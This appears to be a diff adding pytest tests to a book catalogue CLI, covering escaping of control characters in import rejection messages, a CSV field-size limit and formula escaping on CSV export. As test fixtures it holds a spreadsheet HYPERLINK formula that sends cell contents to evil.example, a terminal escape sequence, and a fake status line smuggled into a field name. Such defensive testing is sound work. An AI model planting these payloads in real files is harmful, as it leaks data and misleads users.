@@ -5,6 +5,7 @@ import json
 import pytest
 from sqlalchemy import select, text
 
+from bookapi.books import transfer
 from bookapi.books.models import Book
 from bookapi.books.schemas import book_schema
 from bookapi.extensions import db
@@ -180,6 +181,34 @@ def test_import_writes_every_rejection_to_the_rejects_file(runner, tmp_path):
     assert rows[0]["reason"] == "title: Length must be between 1 and 255."
 
 
+HOSTILE_KEY = "genre\nImported 999 books, rejected 0.\x1b]0;pwned\x07\u202e"
+ESCAPED_REASON = "genre\\nImported 999 books, rejected 0.\\x1b]0;pwned\\x07\\u202e: Unknown field."
+
+
+@pytest.fixture
+def hostile_jsonl(tmp_path):
+    """A file whose only book has an unknown field named with a line break, a terminal escape sequence and a
+    right-to-left override."""
+    return write_jsonl(tmp_path / "books.jsonl", [{**BookPayload(), HOSTILE_KEY: "x"}])
+
+
+def test_import_prints_non_printable_characters_of_a_reason_escaped(runner, hostile_jsonl):
+    result = runner.invoke(args=["books", "import", hostile_jsonl])
+
+    assert result.exit_code == 0
+    assert result.output.endswith(f"Imported 0 books, rejected 1.\n  line 1: {ESCAPED_REASON}\n")
+
+
+def test_import_writes_non_printable_characters_of_a_reason_escaped_to_the_rejects_file(
+        runner, hostile_jsonl, tmp_path):
+    rejects = tmp_path / "rejects.csv"
+
+    runner.invoke(args=["books", "import", hostile_jsonl, "--rejects", str(rejects)])
+
+    with open(rejects, newline="", encoding="utf-8") as file:
+        assert list(csv.DictReader(file)) == [{"line": "1", "reason": ESCAPED_REASON}]
+
+
 def test_import_reads_stdin_with_format_option(runner):
     record = BookPayload()
 
@@ -217,10 +246,22 @@ def test_import_of_missing_file_exits_with_usage_error(runner, tmp_path):
     assert "does not exist" in result.output
 
 
+def test_import_csv_rejects_row_with_a_field_longer_than_the_csv_module_reads_by_default(runner, tmp_path):
+    rows = [BookPayload(description="x" * 200_000), BookPayload()]
+
+    result = runner.invoke(args=["books", "import", write_csv(tmp_path / "books.csv", rows)])
+
+    assert result.exit_code == 0, result.output
+    assert "Imported 1 books, rejected 1." in result.output
+    assert "  line 2: description: Longer than maximum length 10000.\n" in result.output
+    assert [b.isbn for b in all_books()] == [rows[1]["isbn"]]
+
+
 @pytest.mark.parametrize("content, problem", [
     (b"title,author\n\xff\xfe\n", "codec can't decode byte 0xff"),
-    (b"title,description\nDune," + b"x" * 200_000 + b"\n", "field larger than field limit"),
-], ids=["not-utf8", "huge-field"])
+    (b"title,description\nDune,x\nEmma,\"" + b"x" * (transfer.CSV_FIELD_LIMIT + 1),
+     "line 3: field larger than field limit"),
+], ids=["not-utf8", "field-over-the-limit"])
 def test_import_of_unreadable_content_stops_with_message(runner, tmp_path, content, problem):
     path = tmp_path / "books.csv"
     path.write_bytes(content)
@@ -265,6 +306,99 @@ def test_export_then_import_restores_the_same_books(runner, tmp_path, name):
     assert result.exit_code == 0, result.output
     assert "Imported 4 books, rejected 0." in result.output
     assert stored_books() == before
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(A1:A9)", "+1+1", "-2+3", "\tcalc", "\rcalc"]
+# Titles whose first characters a spreadsheet, or the defence against it, could take for something else.
+TRICKY_TITLES = ["=1+1", "-", "@home", "'", "''", "'=1+1", "'Tis Pity She's a Whore"]
+ESCAPING = pytest.mark.parametrize("escaping", [[], ["--no-escape-formulas"]], ids=["escaped", "not-escaped"])
+
+
+def exported_csv_rows(runner, path, *options):
+    runner.invoke(args=["books", "export", str(path), *options])
+    with open(path, newline="", encoding="utf-8") as file:
+        return list(csv.DictReader(file))
+
+
+def export_then_import(runner, path, *options):
+    runner.invoke(args=["books", "export", str(path), *options])
+    empty_catalogue()
+    return runner.invoke(args=["books", "import", str(path), *options])
+
+
+@pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "at", "plus", "minus", "tab", "carriage-return"])
+def test_export_csv_puts_an_apostrophe_before_a_cell_a_spreadsheet_would_run(runner, tmp_path, formula):
+    BookFactory(title=formula, description=formula)
+
+    rows = exported_csv_rows(runner, tmp_path / "books.csv")
+
+    assert (rows[0]["title"], rows[0]["description"]) == ("'" + formula, "'" + formula)
+
+
+def test_export_csv_without_escaping_formulas_writes_them_as_they_are(runner, tmp_path):
+    BookFactory(title=FORMULAS[0])
+
+    rows = exported_csv_rows(runner, tmp_path / "books.csv", "--no-escape-formulas")
+
+    assert rows[0]["title"] == FORMULAS[0]
+
+
+@ESCAPING
+def test_export_then_import_csv_restores_titles_that_start_like_formulas_or_with_apostrophes(
+        runner, tmp_path, escaping):
+    for title in TRICKY_TITLES:
+        BookFactory(title=title)
+
+    result = export_then_import(runner, tmp_path / "books.csv", *escaping)
+
+    assert result.exit_code == 0, result.output
+    assert [book.title for book in all_books()] == TRICKY_TITLES
+
+
+@ESCAPING
+def test_export_then_import_csv_keeps_an_empty_description_apart_from_none(runner, tmp_path, escaping):
+    BookFactory(description="")
+    BookFactory(description=None)
+
+    result = export_then_import(runner, tmp_path / "books.csv", *escaping)
+
+    assert result.exit_code == 0, result.output
+    assert [book.description for book in all_books()] == ["", None]
+
+
+def test_import_csv_reads_a_lone_apostrophe_as_an_empty_text_and_an_empty_cell_as_none(runner, tmp_path):
+    path = write_csv(tmp_path / "books.csv", [BookPayload(description="'"), BookPayload(description="")])
+
+    runner.invoke(args=["books", "import", path])
+
+    assert [book.description for book in all_books()] == ["", None]
+
+
+def test_import_csv_takes_off_only_an_apostrophe_that_export_puts_in_front(runner, tmp_path):
+    titles = ["'=1+1", "''", "'Tis Pity She's a Whore"]
+    path = write_csv(tmp_path / "books.csv", [BookPayload(title=title) for title in titles])
+
+    runner.invoke(args=["books", "import", path])
+
+    assert [book.title for book in all_books()] == ["=1+1", "'", "'Tis Pity She's a Whore"]
+
+
+def test_import_csv_without_escaping_formulas_keeps_an_apostrophe_before_a_formula(runner, tmp_path):
+    path = write_csv(tmp_path / "books.csv", [BookPayload(title="'=1+1")])
+
+    runner.invoke(args=["books", "import", path, "--no-escape-formulas"])
+
+    assert [book.title for book in all_books()] == ["'=1+1"]
+
+
+def test_import_writes_a_reason_a_spreadsheet_would_run_with_an_apostrophe_in_front(runner, tmp_path):
+    path = write_jsonl(tmp_path / "books.jsonl", [{**BookPayload(), FORMULAS[0]: "x"}])
+    rejects = tmp_path / "rejects.csv"
+
+    runner.invoke(args=["books", "import", path, "--rejects", str(rejects)])
+
+    with open(rejects, newline="", encoding="utf-8") as file:
+        assert list(csv.DictReader(file))[0]["reason"] == f"'{FORMULAS[0]}: Unknown field."
 
 
 @pytest.mark.parametrize("name, content", [
